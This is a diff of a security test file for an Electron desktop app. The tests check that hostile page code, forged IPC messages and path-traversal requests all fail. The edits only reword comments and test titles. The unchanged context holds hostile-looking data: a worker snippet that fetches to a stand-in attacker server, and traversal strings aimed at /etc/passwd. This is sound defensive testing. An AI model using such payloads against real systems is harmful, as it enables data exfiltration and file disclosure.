@@ -6,14 +6,14 @@ import { type DesktopDriver, startOnDesktop } from './desktop-driver.ts';
 import { expect, test } from './fixtures.ts';
 
 /**
- * What a page could try if somebody's code ran in it, without its content security policy in the way. Each asserts that
- * nothing reached the other server, and that the window still shows the app.
+ * Attempts of hostile code that runs in the page, without the page's content security policy. Each test
+ * asserts that nothing reached the other server, and that the window still shows the app.
  */
 
 type Evil = { origin: string; asked: string[]; server: Server };
 
 let evil: Evil;
-/** An app of this file alone: its window does not keep to the policy of the page. */
+/** An app of this file alone: its window ignores the page's content security policy. */
 let victim: DesktopDriver;
 
 async function startEvil(): Promise<Evil> {
@@ -33,7 +33,7 @@ async function startEvil(): Promise<Evil> {
   return { origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked, server };
 }
 
-/** Lets the main process and the page run until what was asked for before must have been done. */
+/** Gives the main process and the page time to finish what they were asked before. */
 async function settle({ app }: DesktopDriver): Promise<void> {
   const page = await app.firstWindow();
   for (let round = 0; round < 3; round += 1) {
@@ -100,7 +100,7 @@ const ATTEMPTS: Record<string, (evil: string) => void> = {
   },
   'a worker': (evil) => {
     const code = `fetch('${evil}/worker', { mode: 'no-cors' }); new WebSocket('${evil.replace('http', 'ws')}/worker')`;
-    // The trusted types of the page are part of its policy, which is not in the way here.
+    // The page's trusted types are part of its policy, so they do not block this.
     void new Worker(URL.createObjectURL(new Blob([code])));
   },
   'a shared worker': (evil) => {
@@ -127,8 +127,8 @@ test.describe('@desktop-only what a hostile page tries', () => {
     evil.server.close();
   });
 
-  // In one page, one after another: none of them leads out of it, so none needs a page of its own.
-  test('nothing of it goes anywhere @soak', async () => {
+  // All attempts run one after another in one page, because none of them leaves it.
+  test('every attempt fails @soak', async () => {
     const page = await victim.openPage(undefined as never);
     const before = page.url().split('#')[0];
     for (const [name, attempt] of Object.entries(ATTEMPTS)) {
@@ -139,13 +139,13 @@ test.describe('@desktop-only what a hostile page tries', () => {
           .catch((error: unknown) => expect(String(error)).not.toContain('closed'));
         await settle(victim);
         expect(evil.asked).toEqual([]);
-        // The link with a ping leads to where the page is.
+        // The link with a ping leads to the present page.
         expect(page.url().split('#')[0]).toBe(before);
         await expect(page).toHaveTitle(/Almanac/);
         expect(await victim.app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(
           1,
         );
-        // Nor is the person's browser opened for any of it.
+        // No attempt opens the person's browser either.
         expect(await opened(victim)).toEqual([]);
         const texts = await Promise.all(
           page
@@ -167,9 +167,9 @@ test.describe('@desktop-only what a hostile page tries', () => {
     expect(new Set(policies)).toEqual(new Set(['disable_non_proxied_udp']));
   });
 
-  test('WebRTC has no UDP, and by TCP it finds nobody but on this machine’s own address @soak', async () => {
+  test('WebRTC has no UDP, and over TCP reaches only this machine’s own address @soak', async () => {
     const page = await victim.openPage(undefined as never);
-    // Another address than the service's; of this machine all the same, so that nothing leaves it.
+    // Not the service's address, but still on this machine, so that nothing leaves it.
     const elsewhere = '127.0.0.2';
     const heard: string[] = [];
     const udp = createSocket('udp4', () => heard.push('udp'));
@@ -180,7 +180,7 @@ test.describe('@desktop-only what a hostile page tries', () => {
     });
     await new Promise<void>((resolve) => tcp.listen(0, elsewhere, resolve));
     const servers = [
-      // The stand-in's Chromium takes its policy at its start only.
+      // The stand-in's Chromium takes its WebRTC policy only at its start.
       ...(victim.kind === 'standin' ? [] : [{ urls: `stun:${elsewhere}:${udp.address().port}` }]),
       {
         urls: `turn:${elsewhere}:${(tcp.address() as AddressInfo).port}?transport=tcp`,
@@ -214,7 +214,7 @@ test.describe('@desktop-only what a hostile page tries', () => {
     expect(victim.app.windows()).toHaveLength(1);
   });
 
-  test('what the app itself would load from elsewhere is not asked for', async () => {
+  test('a load of another origin by the app itself sends no request', async () => {
     const page = await victim.openPage(undefined as never);
     const home = page.url();
     const outcome = await victim.app.evaluate(async ({ BrowserWindow }, url) => {
@@ -232,7 +232,7 @@ test.describe('@desktop-only what a hostile page tries', () => {
     );
   });
 
-  test('permissions are refused, but for writing to the clipboard', async () => {
+  test('all permissions except writing to the clipboard are refused', async () => {
     const page = await victim.openPage(undefined as never);
     await page.reload();
     const refused = () =>
@@ -265,7 +265,7 @@ test.describe('@desktop-only what a hostile page tries', () => {
   });
 });
 
-/** Messages and requests that the built main process gets from where it must not take them. */
+/** Messages and requests that reach the built main process from a wrong sender. */
 
 type Sent = {
   channel: string;
@@ -274,7 +274,7 @@ type Sent = {
   input: unknown;
 };
 
-/** Calls the handler of a channel with an event of our making, as `ipcMain` would. */
+/** Calls the handler of a channel with a made-up event, as `ipcMain` would. */
 function send(app: ElectronApplication, sent: Sent): Promise<string> {
   return app.evaluate(async ({ ipcMain, BrowserWindow }, { channel, frame, sender, input }) => {
     const handlers = (
@@ -328,7 +328,7 @@ test.describe('@desktop-only hostile messages', () => {
     }
   });
 
-  test('no channel takes what it does not know', async ({ desktop }) => {
+  test('every channel refuses inputs that it does not know', async ({ desktop }) => {
     for (const [channel, inputs] of Object.entries({
       'almanac:set-theme': ['purple', null, 7, ['dark'], { theme: 'dark' }],
       'almanac:offer': [
@@ -365,7 +365,7 @@ test.describe('@desktop-only hostile messages', () => {
 
   test.describe('by path', () => {
     test.use({ expectedErrors: [/status of 40[134]|http:\/\/etc\/passwd/] });
-    test('paths that lead out of the page’s files give nothing of the disk', async ({ page }) => {
+    test('paths that lead out of the page’s files give nothing from the disk', async ({ page }) => {
       const paths = [
         '/../../../../etc/passwd',
         '/..%2f..%2f..%2f..%2fetc%2fpasswd',
@@ -387,7 +387,7 @@ test.describe('@desktop-only hostile messages', () => {
           return { status: got?.status ?? 0, text: (await got?.text()) ?? '' };
         }, path);
         expect(answer.text, path).not.toMatch(/root:|"dependencies"|runService/);
-        // Either nothing, or the page that every unknown address shows.
+        // The answer is a refusal, or the page that every unknown address shows.
         if (answer.status === 200) expect(answer.text, path).toBe(own);
         else expect([0, 400, 401, 403, 404], path).toContain(answer.status);
       }
